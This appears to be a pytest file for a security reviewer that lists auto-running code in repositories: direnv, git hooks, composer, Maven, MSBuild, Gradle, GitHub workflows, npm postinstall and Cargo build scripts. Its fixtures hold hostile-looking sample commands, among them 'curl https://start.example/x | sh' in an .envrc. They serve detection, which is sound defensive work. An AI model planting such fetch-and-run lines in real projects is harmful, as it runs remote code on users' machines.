from __future__ import annotations

import json

import pytest

from checks.model import AutoRun, CapabilityId, Trigger
from tests.reviewer.inventory.worlds import able, inventory


def runs(path: str, text: str) -> list[AutoRun]:
    return [run for run in inventory({path: text, "README.md": "Hello.\n"}).autoruns if run.at.path == path]


def test_a_folder_that_a_shell_enters_runs_its_envrc_after_a_question() -> None:
    (run,) = runs(".envrc", "# settings\ncurl https://start.example/x | sh\n")

    assert (run.event, run.at.line, run.hosts) == ("direnv:enter", 2, ("start.example",))
    assert "direnv" in run.gate


@pytest.mark.parametrize("path", [".husky/pre-commit", ".githooks/post-checkout", "hooks-of-mine/.git/hooks/pre-push"])
def test_hooks_of_git_run_once_git_is_pointed_to_them(path: str) -> None:
    (run,) = runs(path, "#!/bin/sh\nnpm test\n")

    assert run.event.startswith("git:")
    assert run.gate


def test_a_file_that_is_only_called_like_a_hook_is_none() -> None:
    assert runs("docs/pre-commit", "How we use pre-commit.\n") == []


def test_scripts_of_composer_run_at_installation() -> None:
    (run,) = runs("composer.json", json.dumps({"scripts": {"post-install-cmd": ["php collect.php"], "test": "phpunit"}}))

    assert (run.command, run.trigger) == ("php collect.php", Trigger.INSTALL)


def test_programs_that_plugins_of_maven_start_run_at_every_build() -> None:
    plugin = (
        "<configuration><executable>sh</executable><arguments><argument>-c</argument><argument> id </argument></arguments></configuration>"
    )
    ant = '<target><exec dir="." executable="curl"><arg value="-s"/><arg line=\'https://a.example\'/></exec><arg value="x"/></target>'
    found = runs("pom.xml", f"<project>{plugin}{ant}</project>")
    assert [run.command for run in found] == ["sh -c id", "curl -s https://a.example"]
    assert {run.trigger for run in found} == {Trigger.INSTALL}
    assert runs("pom.xml", "<project><build><executable/></build></project>") == []


def test_tasks_of_msbuild_and_gradle_run_at_every_build() -> None:
    (build,) = runs("build/Notes.targets", '<Project><Target Name="x"><Exec Command="curl https://b.example/x -o y" /></Target></Project>')
    (exec_,) = runs("app/build.gradle.kts", 'tasks.register<Exec>("x") { commandLine("sh", "-c", "id") }')

    assert (build.hosts, build.gate) == (("b.example",), "")
    assert exec_.command == "sh -c id"


def test_what_a_pipeline_of_the_publisher_runs_is_listed_and_is_no_ability_here() -> None:
    workflow = "on: [push, pull_request_target]\njobs:\n  a:\n    steps:\n      - run: curl https://ci.example/x\n"
    target = inventory({".github/workflows/ci.yml": workflow})

    (run,) = target.autoruns
    assert (run.event, run.elsewhere, run.hosts) == ("github:push,pull_request_target", True, ("ci.example",))
    assert able(target, CapabilityId.NET_OUT) == []


def test_a_hook_that_nobody_is_asked_about_has_no_gate() -> None:
    (run,) = runs("package.json", '{"name": "a", "scripts": {"postinstall": "node x.js"}}')

    assert run.gate == ""


@pytest.mark.parametrize("text", ["", "\x00", "on: *x", "[" * 500, "a: &a [*a]", "run: {run: {run: 1}}"])
def test_odd_pipelines_do_not_raise(text: str) -> None:
    runs(".github/workflows/ci.yml", text)
    runs("composer.json", text)


def test_a_build_script_can_do_what_its_code_does_and_no_more() -> None:
    quiet = inventory({"Cargo.toml": "", "build.rs": 'fn main() { println!("cargo:rerun-if-changed=build.rs"); }'})
    acting = inventory({"Cargo.toml": "", "build.rs": 'fn main() { std::process::Command::new("git").status().unwrap(); }'})

    assert [run.event for run in quiet.autoruns] == ["cargo:build.rs"]
    assert quiet.capabilities == ()
    assert [(each.id, each.trigger) for each in acting.capabilities] == [(CapabilityId.PROC_EXEC, Trigger.INSTALL)]
